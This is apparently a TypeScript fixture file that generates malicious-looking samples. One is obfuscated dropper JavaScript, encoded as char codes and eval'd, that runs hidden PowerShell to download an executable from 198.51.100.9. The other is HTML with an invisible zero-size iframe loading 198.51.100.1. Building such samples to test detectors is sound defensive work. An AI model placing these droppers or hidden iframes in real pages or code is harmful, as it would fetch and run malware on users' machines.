/** Obfuscated JavaScript as droppers write it: a payload hidden in char codes, decoded and evaluated. */
export function obfuscatedJs(): string {
  const payload = 'var s=new ActiveXObject("WScript.Shell");s.Run("powershell -w hidden -c iwr http://198.51.100.9/x.exe");';
  const codes = [...payload].map((c) => c.charCodeAt(0)).join(',');
  return `var _0x1=[${codes}];var _0x2='';for(var i=0;i<_0x1.length;i++){_0x2+=String.fromCharCode(_0x1[i]);}\nvar u=unescape('%65%76%61%6c');var a=atob('ZXZhbA==');eval(_0x2);\n`;
}

/** A page that loads another in an iframe nobody sees. */
export const HIDDEN_IFRAME_HTML = '<html><body><p>Welcome</p><iframe src="http://198.51.100.1/x" width="0" height="0" frameborder="0"></iframe></body></html>\n';
